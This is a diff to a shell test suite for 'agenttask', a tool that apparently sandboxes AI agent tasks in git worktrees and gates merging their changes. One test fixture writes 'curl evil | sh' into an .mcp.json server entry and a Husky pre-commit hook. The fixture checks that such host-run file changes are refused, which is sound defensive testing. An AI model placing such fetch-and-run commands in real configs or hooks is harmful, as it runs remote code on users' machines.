@@ -11,11 +11,10 @@ new_task() {
 	wt=$out
 }
 
-# task_commit WT FILE TEXT MSG: write FILE in the task's worktree and commit it there.
+# task_commit NAME FILE TEXT MSG: the agent writes FILE in the task's
+# worktree and commits it there (in its sandbox, on either form).
 task_commit() {
-	printf '%s\n' "$3" >"$1/$2"
-	git -C "$1" add -A
-	git -C "$1" commit -q -m "$4"
+	agent_sh "$1" 'printf "%s\n" "$2" >"$1" && git add -A && git commit -q -m "$3"' "$2" "$3" "$4"
 }
 
 # main_commit REPO FILE TEXT MSG: the same on the user's side.
@@ -25,14 +24,37 @@ main_commit() {
 	git -C "$1" commit -q -m "$4"
 }
 
-# The tree of a worktree's full state, by git's own reckoning (git add -A on a copy of the index).
+# full_state_tree NAME: the tree of the task's full state into $out, by
+# git's own reckoning (git add -A on a copy of the index): in its worktree
+# on the host, or inside its sandbox on the layered form (no files on the host).
 full_state_tree() {
-	local wt=$1 idx
-	idx=$(mktemp)
-	cp "$(git -C "$wt" rev-parse --git-path index)" "$idx"
-	GIT_INDEX_FILE=$idx git -C "$wt" add -A
-	GIT_INDEX_FILE=$idx git -C "$wt" write-tree
-	rm -f "$idx"
+	local script='idx=$(mktemp) && cp "$(git rev-parse --git-path index)" "$idx" &&
+		GIT_INDEX_FILE=$idx git add -A && GIT_INDEX_FILE=$idx git write-tree && rm -f "$idx"'
+	if layered_form; then
+		agent_sh "$1" "$script"
+	else
+		out=$(cd "$(wt_home repo)/$1" && sh -c "$script")
+	fi
+}
+
+# git_status NAME: `git status --porcelain` of the task into $out, the same way.
+git_status() {
+	if layered_form; then
+		agent_sh "$1" 'git status --porcelain'
+	else
+		out=$(git -C "$(wt_home repo)/$1" status --porcelain)
+	fi
+}
+
+# state_reads TRACE NAME: how often the task's state was read, by an
+# AGENTTASK_TRACE file: scans of its worktree, or reads of a layered
+# task's layer (git/snapshot.c).
+state_reads() {
+	if layered_form; then
+		trace_count "$1" layer "$(git -C repo rev-parse --path-format=absolute --git-common-dir)/agenttask/layers/$2/upper"
+	else
+		trace_count "$1" scan "$(wt_home repo)/$2"
+	fi
 }
 
 task_gone() {
@@ -62,7 +84,8 @@ trace_count() {
 # twice each: once before the lock (shared by the --tree check and the gate)
 # and once under it (checked against the first, then committed as it is).
 # The count comes from AGENTTASK_TRACE (core/trace.h), written by the
-# functions that walk the worktree, where they do it.
+# functions that walk the worktree, where they do it (a layered task's:
+# that read its layer; state_reads).
 test_accept_scans_the_worktree_at_most_twice() {
 	make_repo repo
 	mkdir -p repo/.agenttask
@@ -71,14 +94,13 @@ test_accept_scans_the_worktree_at_most_twice() {
 	git -C repo add .agenttask
 	git -C repo commit -q -m "policy"
 	new_task repo t
-	echo "change" >>"$wt/README"
-	echo "new" >"$wt/new.txt"
+	agent_sh t 'echo change >>README; echo new >new.txt'
 	ok "diff --json" -C repo diff t --json
 	local tree trace=$PWD/trace scans opens
 	tree=$(json_get "$out" 'j["tree"]')
 	AGENTTASK_TRACE=$trace ok "accept with a policy and --tree" -C repo accept t --tree "$tree"
 	assert_eq "$(git -C repo show main:new.txt)" "new" "accepted"
-	scans=$(trace_count "$trace" scan "$wt")
+	scans=$(state_reads "$trace" t)
 	opens=$(trace_count "$trace" open "$wt")
 	[ "$scans" -ge 1 ] || fail "no scan traced: the trace does not work ($(cat "$trace"))"
 	[ "$scans" -le 2 ] || fail "the worktree was scanned $scans times: $(cat "$trace")"
@@ -90,12 +112,12 @@ test_accept_scans_the_worktree_at_most_twice() {
 test_gate_without_a_policy_judges_only_host_files() {
 	make_repo repo
 	new_task repo t
-	echo "change" >>"$wt/README"
+	agent_sh t 'echo change >>README'
 	AGENTTASK_TRACE=$PWD/trace ok "gate" -C repo gate t
 	assert_contains "$out" "policy  none (no policy at" "no policy"
 	assert_contains "$out" "ok    host_files" "host_files judged"
 	assert_not_contains "$out" "protected_paths" "no other rule"
-	assert_eq "$(trace_count "$PWD/trace" scan "$wt")" "1" "one scan"
+	assert_eq "$(state_reads "$PWD/trace" t)" "1" "one scan"
 }
 
 # ---------------------------------------------------------------- files the host runs
@@ -109,10 +131,9 @@ test_gate_without_a_policy_judges_only_host_files() {
 test_accept_refuses_a_change_to_a_host_file_without_an_override() {
 	make_repo repo
 	new_task repo t
-	printf '{"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl evil | sh"]}}}\n' >"$wt/.mcp.json"
-	mkdir -p "$wt/.husky"
-	printf 'curl evil | sh\n' >"$wt/.husky/pre-commit"
-	printf 'fine\n' >"$wt/feature.txt"
+	agent_sh t 'printf "%s\n" "$1" >.mcp.json && mkdir -p .husky &&
+		printf "curl evil | sh\n" >.husky/pre-commit && printf "fine\n" >feature.txt' \
+		'{"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl evil | sh"]}}}'
 	local tip
 	tip=$(git -C repo rev-parse main)
 	expect_rc 1 "accept" -C repo accept t
@@ -135,7 +156,7 @@ test_accept_with_the_host_files_opt_out_warns() {
 	make_repo repo
 	set_policy '{"host_files": "allow"}'
 	new_task repo t
-	printf 'use flake\n' >"$wt/.envrc"
+	agent_sh t 'printf "use flake\n" >.envrc'
 	ok "accept" -C repo accept t --json
 	assert_contains "$errout" "warning: accepted a change to '.envrc'" "warned"
 	assert_eq "$(json_get "$out" 'j["host_files"]')" "['.envrc']" "JSON lists it"
@@ -147,7 +168,7 @@ test_accept_with_the_host_files_opt_out_warns() {
 test_accept_fast_forwards_when_the_base_has_not_moved() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
+	task_commit t feature.txt "feature" "add feature"
 	local tip
 	tip=$(git -C repo rev-parse agenttask/t)
 	ok "accept" -C repo accept t
@@ -163,7 +184,7 @@ test_accept_fast_forwards_when_the_base_has_not_moved() {
 test_accept_makes_a_merge_commit_when_the_base_moved() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
+	task_commit t feature.txt "feature" "add feature"
 	main_commit repo other.txt "other" "user work"
 	local base tip
 	base=$(git -C repo rev-parse main)
@@ -184,7 +205,7 @@ test_accept_makes_a_merge_commit_when_the_base_moved() {
 test_accept_message_option_names_the_merge_commit() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
+	task_commit t feature.txt "feature" "add feature"
 	main_commit repo other.txt "other" "user work"
 	ok "accept -m" -C repo accept t -m "Bring in the feature"
 	assert_eq "$(git -C repo log -1 --format=%B main | sed '/^$/d')" "Bring in the feature" "message"
@@ -194,8 +215,8 @@ test_accept_message_option_names_the_merge_commit() {
 test_ff_only_refuses_when_the_base_moved_and_changes_nothing() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
-	echo pending >"$wt/pending.txt"
+	task_commit t feature.txt "feature" "add feature"
+	agent_sh t 'echo pending >pending.txt'
 	main_commit repo other.txt "other" "user work"
 	local base tip
 	base=$(git -C repo rev-parse main)
@@ -204,7 +225,8 @@ test_ff_only_refuses_when_the_base_moved_and_changes_nothing() {
 	assert_contains "$errout" "fast-forward" "says why"
 	assert_eq "$(git -C repo rev-parse main)" "$base" "main unchanged"
 	assert_eq "$(git -C repo rev-parse agenttask/t)" "$tip" "no pending commit made"
-	assert_eq "$(git -C "$wt" status --porcelain)" "?? pending.txt" "pending work still pending"
+	git_status t
+	assert_eq "$out" "?? pending.txt" "pending work still pending"
 	assert_no_file repo/feature.txt "main worktree untouched"
 	task_kept repo t
 }
@@ -212,7 +234,7 @@ test_ff_only_refuses_when_the_base_moved_and_changes_nothing() {
 test_ff_only_fast_forwards_when_it_can() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
+	task_commit t feature.txt "feature" "add feature"
 	ok "accept --ff-only" -C repo accept t --ff-only
 	assert_eq "$(git -C repo log -1 --format=%s main)" "add feature" "fast-forwarded"
 	task_gone repo t
@@ -221,8 +243,8 @@ test_ff_only_fast_forwards_when_it_can() {
 test_squash_makes_one_commit_with_one_parent() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" a.txt "a" "first step"
-	task_commit "$wt" b.txt "b" "second step"
+	task_commit t a.txt "a" "first step"
+	task_commit t b.txt "b" "second step"
 	main_commit repo other.txt "other" "user work"
 	local base
 	base=$(git -C repo rev-parse main)
@@ -246,7 +268,7 @@ test_squash_makes_one_commit_with_one_parent() {
 test_accept_message_on_a_fast_forward_makes_a_merge_commit() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
+	task_commit t feature.txt "feature" "add feature"
 	local before tip
 	before=$(git -C repo rev-parse main)
 	tip=$(git -C repo rev-parse agenttask/t)
@@ -262,7 +284,7 @@ test_accept_message_on_a_fast_forward_makes_a_merge_commit() {
 test_accept_message_with_ff_only_is_refused() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
+	task_commit t feature.txt "feature" "add feature"
 	local before
 	before=$(git -C repo rev-parse main)
 	expect_rc 2 "accept --ff-only -m" -C repo accept t --ff-only -m "Bring in the feature"
@@ -279,7 +301,7 @@ test_accept_message_with_ff_only_is_refused() {
 test_squash_takes_a_message() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" a.txt "a" "first step"
+	task_commit t a.txt "a" "first step"
 	ok "accept --squash -m" -C repo accept t --squash -m "The whole feature"
 	assert_eq "$(git -C repo log -1 --format=%B main | sed '/^$/d')" "The whole feature" "message"
 	assert_eq "$(git -C repo rev-list --parents -1 main | wc -w)" "2" "one parent"
@@ -308,21 +330,18 @@ test_accept_of_a_task_without_changes_merges_nothing() {
 test_keep_keeps_the_worktree_and_the_branch() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
+	task_commit t feature.txt "feature" "add feature"
 	ok "accept --keep" -C repo accept t --keep
 	assert_eq "$(git -C repo rev-parse main)" "$(git -C repo rev-parse agenttask/t)" "merged"
 	task_kept repo t
-	assert_file "$wt/feature.txt" "worktree files kept"
+	agent_sh t 'test -f feature.txt' || fail "worktree files kept"
 }
 
 test_pending_changes_are_included() {
 	make_repo repo
 	new_task repo t
-	echo "edited" >>"$wt/README"
-	echo "brand new" >"$wt/untracked.txt"
-	mkdir -p "$wt/deep/dir"
-	echo "deep" >"$wt/deep/dir/file.txt"
-	rm "$wt/src/main.c"
+	agent_sh t 'echo edited >>README && echo "brand new" >untracked.txt && mkdir -p deep/dir &&
+		echo deep >deep/dir/file.txt && rm src/main.c'
 	ok "accept" -C repo accept t
 	assert_eq "$(git -C repo show main:README | tail -1)" "edited" "uncommitted edit"
 	assert_eq "$(git -C repo show main:untracked.txt)" "brand new" "untracked file"
@@ -338,10 +357,7 @@ test_pending_changes_are_included() {
 test_modes_and_symlinks_survive_accept() {
 	make_repo repo
 	new_task repo t
-	printf '#!/bin/sh\necho hi\n' >"$wt/run.sh"
-	chmod +x "$wt/run.sh"
-	ln -s src/main.c "$wt/link"
-	chmod +x "$wt/README"
+	agent_sh t 'printf "#!/bin/sh\necho hi\n" >run.sh && chmod +x run.sh README && ln -s src/main.c link'
 	main_commit repo other.txt "other" "user work"   # a merge commit, not a fast-forward
 	ok "accept" -C repo accept t
 	[ -x repo/run.sh ] || fail "run.sh is executable in the main worktree"
@@ -360,10 +376,11 @@ test_binary_files_survive_accept() {
 	git -C repo add blob.bin
 	git -C repo commit -q -m "binary"
 	new_task repo t
-	head -c 8192 /dev/urandom >"$wt/blob.bin"
-	printf 'a\0b\0\377\376' >"$wt/new.bin"
-	cp "$wt/blob.bin" want.bin
-	cp "$wt/new.bin" want-new.bin
+	agent_sh t 'head -c 8192 /dev/urandom >blob.bin && printf "a\0b\0\377\376" >new.bin'
+	# The bytes as the agent sees them, read back through its sandbox.
+	"$AT" -C repo run t -- cat blob.bin >want.bin || fail "read blob.bin"
+	"$AT" -C repo run t -- cat new.bin >want-new.bin || fail "read new.bin"
+	[ "$(wc -c <want.bin) $(wc -c <want-new.bin)" = "8192 6" ] || fail "the agent's binaries"
 	main_commit repo other.txt "other" "user work"
 	ok "accept" -C repo accept t
 	cmp -s repo/blob.bin want.bin || fail "changed binary on disk"
@@ -381,7 +398,7 @@ test_accept_checks_files_out_through_the_filters() {
 	printf '*.txt text eol=crlf\n' >repo/.gitattributes
 	git -C repo add .gitattributes && git -C repo commit -q -m attributes
 	new_task repo t
-	printf 'one\ntwo\n' >"$wt/notes.txt"
+	agent_sh t 'printf "one\ntwo\n" >notes.txt'
 	ok "accept" -C repo accept t
 	assert_eq "$(od -An -c repo/notes.txt | tr -s ' ')" " o n e \r \n t w o \r \n" "CRLF on disk"
 	assert_eq "$(git -C repo show main:notes.txt | od -An -c | tr -s ' ')" " o n e \n t w o \n" "LF in the tree"
@@ -391,8 +408,7 @@ test_accept_checks_files_out_through_the_filters() {
 test_accept_turns_a_directory_into_a_file_and_back() {
 	make_repo repo
 	new_task repo t
-	git -C "$wt" rm -q src/main.c && echo file >"$wt/src"
-	rm "$wt/README" && mkdir "$wt/README" && echo inside >"$wt/README/f"
+	agent_sh t 'git rm -q src/main.c && echo file >src && rm README && mkdir README && echo inside >README/f'
 	ok "accept" -C repo accept t
 	assert_eq "$(cat repo/src)" "file" "src became a file"
 	assert_eq "$(cat repo/README/f)" "inside" "README became a directory"
@@ -410,7 +426,7 @@ test_accept_never_writes_through_a_users_symlink() {
 	mkdir outside
 	ln -s "$PWD/outside" repo/docs
 	new_task repo t
-	mkdir "$wt/docs" && echo task >"$wt/docs/x"
+	agent_sh t 'mkdir docs && echo task >docs/x'
 	main=$(git -C repo rev-parse main)
 	expect_rc 1 "accept over the user's link" -C repo accept t
 	assert_contains "$errout" "docs" "the path in the way is named"
@@ -423,7 +439,7 @@ test_accept_never_writes_through_a_users_symlink() {
 test_dirty_main_worktree_overlapping_refuses_and_changes_nothing() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" README "task version" "task edits README"
+	task_commit t README "task version" "task edits README"
 	echo "user's unsaved edit" >>repo/README
 	echo staged >repo/staged.txt
 	git -C repo add staged.txt
@@ -446,7 +462,7 @@ test_dirty_main_worktree_overlapping_refuses_and_changes_nothing() {
 test_staged_overlap_refuses_too() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" src/main.c "int main(void) { return 1; }" "task edits main.c"
+	task_commit t src/main.c "int main(void) { return 1; }" "task edits main.c"
 	echo "/* user */" >>repo/src/main.c
 	git -C repo add src/main.c
 	local status base
@@ -462,7 +478,7 @@ test_staged_overlap_refuses_too() {
 test_untracked_user_file_in_the_way_refuses() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" notes.txt "task notes" "task adds notes"
+	task_commit t notes.txt "task notes" "task adds notes"
 	echo "my own notes" >repo/notes.txt
 	local base
 	base=$(git -C repo rev-parse main)
@@ -478,8 +494,8 @@ test_unrelated_user_changes_are_left_exactly_as_they_were() {
 	git -C repo add other.txt
 	git -C repo commit -q -m "other"
 	new_task repo t
-	task_commit "$wt" README "task version" "task edits README"
-	echo "added" >"$wt/added.txt"
+	task_commit t README "task version" "task edits README"
+	agent_sh t 'echo added >added.txt'
 	echo "/* staged by user */" >>repo/src/main.c
 	git -C repo add src/main.c
 	echo "/* and more, unstaged */" >>repo/src/main.c
@@ -505,7 +521,7 @@ test_a_change_already_staged_exactly_is_not_in_the_way() {
 	# What an accept interrupted between the checkout and the ref update leaves.
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" README "task version" "task edits README"
+	task_commit t README "task version" "task edits README"
 	echo "task version" >repo/README
 	git -C repo add README
 	ok "accept" -C repo accept t
@@ -516,9 +532,8 @@ test_a_change_already_staged_exactly_is_not_in_the_way() {
 test_failed_ref_update_puts_the_files_back() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" README "task version" "task edits README"
-	echo "added" >"$wt/added.txt"
-	rm "$wt/src/main.c"
+	task_commit t README "task version" "task edits README"
+	agent_sh t 'echo added >added.txt && rm src/main.c'
 	echo "mine" >repo/scratch.txt
 	local base readme status
 	base=$(git -C repo rev-parse main)
@@ -544,7 +559,7 @@ test_base_branch_not_checked_out_moves_only_the_ref() {
 	make_repo repo
 	git -C repo branch feature
 	new_task repo t --base feature
-	task_commit "$wt" feature.txt "feature" "add feature"
+	task_commit t feature.txt "feature" "add feature"
 	git -C repo checkout -q -b elsewhere
 	echo "user edit" >>repo/README
 	local head status
@@ -563,7 +578,7 @@ test_base_moved_and_not_checked_out_makes_a_merge_commit() {
 	make_repo repo
 	git -C repo branch feature
 	new_task repo t --base feature
-	task_commit "$wt" feature.txt "feature" "add feature"
+	task_commit t feature.txt "feature" "add feature"
 	git -C repo checkout -q feature
 	main_commit repo other.txt "other" "on feature"
 	git -C repo checkout -q main
@@ -579,7 +594,7 @@ test_base_moved_and_not_checked_out_makes_a_merge_commit() {
 test_base_checked_out_in_a_linked_worktree_is_updated_there() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
+	task_commit t feature.txt "feature" "add feature"
 	git -C repo checkout -q -b dev
 	git -C repo worktree add -q ../wmain main
 	echo "unrelated" >wmain/scratch.txt
@@ -593,7 +608,7 @@ test_base_checked_out_in_a_linked_worktree_is_updated_there() {
 test_dirty_linked_worktree_of_the_base_refuses() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" README "task version" "task edits README"
+	task_commit t README "task version" "task edits README"
 	git -C repo checkout -q -b dev
 	git -C repo worktree add -q ../wmain main
 	echo "mine" >>wmain/README
@@ -610,7 +625,7 @@ test_base_given_as_a_commit_id_merges_into_the_checked_out_branch() {
 	local sha
 	sha=$(git -C repo rev-parse HEAD~1)
 	new_task repo t --base "$sha"
-	task_commit "$wt" feature.txt "feature" "add feature"
+	task_commit t feature.txt "feature" "add feature"
 	local base tip
 	base=$(git -C repo rev-parse main)
 	tip=$(git -C repo rev-parse agenttask/t)
@@ -624,7 +639,7 @@ test_task_on_a_detached_head_is_refused() {
 	make_repo repo
 	git -C repo checkout -q --detach HEAD
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
+	task_commit t feature.txt "feature" "add feature"
 	expect_rc 1 "accept" -C repo accept t
 	assert_contains "$errout" "no base branch" "says why"
 	task_kept repo t
@@ -635,9 +650,9 @@ test_task_on_a_detached_head_is_refused() {
 test_conflict_lists_paths_and_keeps_everything() {
 	make_repo repo
 	new_task repo t
-	printf 'task line\n' >"$wt/README"
-	task_commit "$wt" src/main.c "task main" "task edits main.c"
-	echo "task pending" >"$wt/pending.txt"
+	agent_sh t 'printf "task line\n" >README'
+	task_commit t src/main.c "task main" "task edits main.c"
+	agent_sh t 'echo "task pending" >pending.txt'
 	printf 'user line\n' >repo/README
 	main_commit repo src/main.c "user main" "user edits"
 	local base
@@ -649,8 +664,10 @@ test_conflict_lists_paths_and_keeps_everything() {
 	assert_empty "main worktree untouched" git -C repo status --porcelain
 	assert_eq "$(cat repo/README)" "user line" "user's file"
 	task_kept repo t
-	assert_eq "$(cat "$wt/README")" "task line" "task's work kept"
-	assert_eq "$(cat "$wt/pending.txt")" "task pending" "task's pending work kept"
+	agent_sh t 'cat README'
+	assert_eq "$out" "task line" "task's work kept"
+	agent_sh t 'cat pending.txt'
+	assert_eq "$out" "task pending" "task's pending work kept"
 	assert_fsck repo
 }
 
@@ -659,10 +676,11 @@ test_conflict_lists_paths_and_keeps_everything() {
 test_tree_matching_the_review_is_accepted() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
-	echo "pending" >"$wt/pending.txt"
+	task_commit t feature.txt "feature" "add feature"
+	agent_sh t 'echo pending >pending.txt'
 	local tree
-	tree=$(full_state_tree "$wt")
+	full_state_tree t
+	tree=$out
 	ok "accept --tree" -C repo accept t --tree "$tree"
 	assert_eq "$(git -C repo rev-parse 'main^{tree}')" "$tree" "accepted exactly the reviewed tree"
 }
@@ -670,26 +688,30 @@ test_tree_matching_the_review_is_accepted() {
 test_tree_not_matching_the_review_is_refused_and_changes_nothing() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
+	task_commit t feature.txt "feature" "add feature"
 	local tree base tip
-	tree=$(full_state_tree "$wt")
-	echo "sneaked in after review" >"$wt/evil.txt"
+	full_state_tree t
+	tree=$out
+	agent_sh t 'echo "sneaked in after review" >evil.txt'
 	base=$(git -C repo rev-parse main)
 	tip=$(git -C repo rev-parse agenttask/t)
 	expect_rc 1 "accept --tree" -C repo accept t --tree "$tree"
 	assert_contains "$errout" "changed since review" "says why"
 	assert_contains "$errout" "reviewed $tree" "names the reviewed tree"
-	assert_contains "$errout" "tree is $(full_state_tree "$wt")" "names the current tree"
+	local said=$errout
+	full_state_tree t
+	assert_contains "$said" "tree is $out" "names the current tree"
 	assert_eq "$(git -C repo rev-parse main)" "$base" "base unchanged"
 	assert_eq "$(git -C repo rev-parse agenttask/t)" "$tip" "nothing committed"
-	assert_eq "$(git -C "$wt" status --porcelain)" "?? evil.txt" "pending work still pending"
+	git_status t
+	assert_eq "$out" "?? evil.txt" "pending work still pending"
 	expect_rc 2 "a malformed tree id" -C repo accept t --tree nothex
 }
 
 test_override_without_a_policy_is_ignored_with_a_note() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
+	task_commit t feature.txt "feature" "add feature"
 	ok "accept --override" -C repo accept t --override "urgent fix"
 	assert_contains "$errout" "nothing to override" "note"
 	assert_eq "$(git -C repo log -1 --format=%s main)" "add feature" "a plain fast-forward"
@@ -706,8 +728,7 @@ gated_repo() {
 	git -C repo add -A
 	git -C repo commit -q -m "policy"
 	new_task repo t
-	echo a >"$wt/a.txt"
-	echo b >"$wt/b.txt"
+	agent_sh t 'echo a >a.txt; echo b >b.txt'
 }
 
 test_failing_gate_refuses_and_changes_nothing() {
@@ -720,7 +741,8 @@ test_failing_gate_refuses_and_changes_nothing() {
 	assert_contains "$errout" "max_changed_files" "the failed rule"
 	assert_eq "$(git -C repo rev-parse main)" "$base" "base unchanged"
 	assert_eq "$(git -C repo rev-parse agenttask/t)" "$tip" "nothing committed"
-	assert_eq "$(git -C "$wt" status --porcelain | wc -l)" "2" "pending work still pending"
+	git_status t
+	assert_eq "$(printf '%s\n' "$out" | wc -l)" "2" "pending work still pending"
 	assert_no_file repo/a.txt "main worktree untouched"
 	task_kept repo t
 }
@@ -762,7 +784,7 @@ test_override_with_ff_only_is_refused() {
 test_policy_file_option_judges_by_that_file() {
 	make_repo repo
 	new_task repo t
-	echo a >"$wt/a.txt"
+	agent_sh t 'echo a >a.txt'
 	echo '{"protected_paths": ["a.txt"]}' >policy.json
 	local base
 	base=$(git -C repo rev-parse main)
@@ -775,7 +797,7 @@ test_policy_file_option_judges_by_that_file() {
 
 test_passing_gate_accepts() {
 	gated_repo
-	rm "$wt/b.txt"
+	agent_sh t 'rm b.txt'
 	ok "accept" -C repo accept t
 	assert_eq "$(git -C repo log -1 --format=%s main)" "agenttask: changes of task 't'" "fast-forward"
 }
@@ -787,7 +809,7 @@ test_parallel_accepts_of_independent_tasks_all_land() {
 	local i pids=()
 	for i in 1 2 3 4; do
 		new_task repo "t$i"
-		task_commit "$wt" "file$i.txt" "content $i" "task $i"
+		task_commit "t$i" "file$i.txt" "content $i" "task $i"
 	done
 	for i in 1 2 3 4; do
 		"$AT" -C repo accept "t$i" >"acc$i.out" 2>&1 &
@@ -815,8 +837,9 @@ test_unknown_task_exits_two() {
 test_accept_from_inside_the_task_worktree_without_a_name() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
-	(cd "$wt/src" && "$AT" accept >../../accept.out 2>&1) || true
+	task_commit t feature.txt "feature" "add feature"
+	task_path t   # the person in the task's worktree: a layered task's made then
+	(cd "$out/src" && "$AT" accept >../../accept.out 2>&1) || true
 	assert_eq "$(git -C repo show main:feature.txt)" "feature" "merged"
 	task_gone repo t
 }
@@ -826,8 +849,8 @@ test_accept_from_inside_the_task_worktree_without_a_name() {
 test_status_previews_a_clean_merge_before_and_after_the_base_moves() {
 	make_repo repo
 	new_task repo t
-	task_commit "$wt" feature.txt "feature" "add feature"
-	echo pending >"$wt/pending.txt"
+	task_commit t feature.txt "feature" "add feature"
+	agent_sh t 'echo pending >pending.txt'
 	ok "status" -C repo status t
 	assert_contains "$out" "merges cleanly" "clean before"
 	ok "status --json" -C repo status t --json
@@ -848,12 +871,13 @@ test_status_previews_a_clean_merge_before_and_after_the_base_moves() {
 test_status_previews_a_conflict_without_writing_anything() {
 	make_repo repo
 	new_task repo t
-	printf 'task line\n' >"$wt/README"          # uncommitted: the preview sees the full state
+	agent_sh t 'printf "task line\n" >README'   # uncommitted: the preview sees the full state
 	main_commit repo README "user line" "user edits README"
 	local base tip wstatus mstatus
 	base=$(git -C repo rev-parse main)
 	tip=$(git -C repo rev-parse agenttask/t)
-	wstatus=$(git -C "$wt" status --porcelain)
+	git_status t
+	wstatus=$out
 	mstatus=$(git -C repo status --porcelain)
 	ok "status" -C repo status t
 	assert_contains "$out" "would conflict in: README" "text"
@@ -863,7 +887,8 @@ test_status_previews_a_conflict_without_writing_anything() {
 	assert_eq "$(json_get "$out" 'j["base_ahead"]')" "1" "one ahead"
 	assert_eq "$(git -C repo rev-parse main)" "$base" "base ref untouched"
 	assert_eq "$(git -C repo rev-parse agenttask/t)" "$tip" "task branch untouched"
-	assert_eq "$(git -C "$wt" status --porcelain)" "$wstatus" "task worktree untouched"
+	git_status t
+	assert_eq "$out" "$wstatus" "task worktree untouched"
 	assert_eq "$(git -C repo status --porcelain)" "$mstatus" "main worktree untouched"
 }
 
